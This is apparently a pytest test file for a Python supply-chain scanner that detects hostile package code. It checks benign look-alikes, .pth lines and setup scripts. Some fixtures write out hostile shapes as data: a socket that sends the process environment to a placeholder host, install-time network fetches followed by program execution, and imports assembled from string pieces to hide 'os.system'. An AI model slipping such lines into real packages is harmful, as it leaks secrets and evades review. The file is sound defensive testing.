"""Hostile shapes are named with their line; ordinary code that uses the same words is left alone."""

import pytest

from bartizan.lab.hostile_packages import PYTHON
from bartizan.supply.packages.python_code import pth_findings, python_findings


def rules(source, *, eager=False):
    """Return the rules that a source breaks."""
    return {one.rule for one in python_findings(source.encode(), "x.py", eager=eager)}


@pytest.mark.parametrize(
    ("name", "file", "source"), [one for one in PYTHON if one[1].endswith(".py")], ids=lambda x: x[:20]
)
def test_every_sample_is_named(name, file, source):
    """With a severity that blocks, and a place."""
    found = python_findings(source.encode(), "x.py")
    assert max(one.severity for one in found) >= 3
    assert found[0].where.startswith("x.py")


@pytest.mark.parametrize(
    "source",
    [
        "import os\nhome = os.environ['HOME']\n",
        "import os, requests\nrequests.get(os.environ.get('URL'))\n",
        "import subprocess, os\nsubprocess.run(['ls'], env=os.environ.copy())\n",
        "def evaluate(x):\n    return eval(compile(x, 'f', 'eval'))\n",
        "import base64\ndata = base64.b64decode('aGk=')\nprint(data)\n",
        "exec(open('version.py').read())\n",
        "import re\nretrieval = re.compile('x')\n",
        "import os, socket\ns = socket.socket()\ns.bind(('', 0))\nenv = os.environ.copy()\n",
    ],
)
def test_ordinary_code_is_left_alone(source):
    """Each uses a word that a rule looks for."""
    assert rules(source) == set()


def test_a_socket_that_speaks_can_carry_the_environment_away():
    """One that only looks for a free port cannot."""
    source = "import os, socket\ns = socket.socket()\ns.connect(('a.invalid', 1))\ns.send(str(os.environ).encode())\n"
    assert "sends-secrets" in rules(source)


def test_what_runs_unasked_needs_less():
    """Network at installation: review; with a program started: block."""
    network = "import urllib.request\nurllib.request.urlopen('https://a.invalid')\n"
    assert rules(network) == set()
    assert rules(network, eager=True) == {"install-network"}
    assert "install-downloads" in rules(network + "import os\nos.system('x')\n", eager=True)


def test_pth_lines():
    """A line that imports runs; the one that setuptools ships is known; paths are no code."""
    assert pth_findings("/usr/lib/x\n", "x.pth") == []
    assert [one.rule for one in pth_findings("import mine\n", "x.pth")] == ["pth-code"]
    shipped = (
        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
        "enabled and __import__('_distutils_hack').add_shim();"
    )
    assert pth_findings(shipped, "distutils-precedence.pth") == []


@pytest.mark.parametrize("source", ["def broken(:\n    exec", "exec\0", "(" * 5000 + "exec"])
def test_source_that_cannot_be_parsed_is_no_crash(source):
    """Python 2, nonsense, nesting."""
    python_findings(source.encode(), "x.py")
    assert python_findings(source.encode(), "setup.py", eager=True)


@pytest.mark.parametrize(
    "source",
    [
        "getattr(__import__('o' + 's'), 'sys' + 'tem')('true')\n",
        "import importlib\nimportlib.import_module('ssecorpbus'[::-1]).run('true')\n",
        "__import__(''.join(['o', 's'])).getcwd()\n",
    ],
)
def test_names_that_are_put_together_out_of_pieces(source):
    """Nobody who means well writes os so."""
    assert "hidden-name" in rules(source)


def test_names_that_are_computed_for_a_reason():
    """A plug-in by its configured name, a constant that is long."""
    for source in (
        "__import__('my' + '.plugin')\n",
        "import importlib\nimportlib.import_module('.' + name, __name__)\n",
        "getattr(torch, 'float' + bits)\n__import__('os')\n",
    ):
        assert rules(source) == set()


def test_a_setup_script_that_starts_programs_is_for_review():
    """Many ask git for a version; some do worse."""
    (found,) = python_findings(b"import os\nos.system('true')\n", "setup.py", eager=True)
    assert (found.rule, found.severity) == ("install-runs", 2)
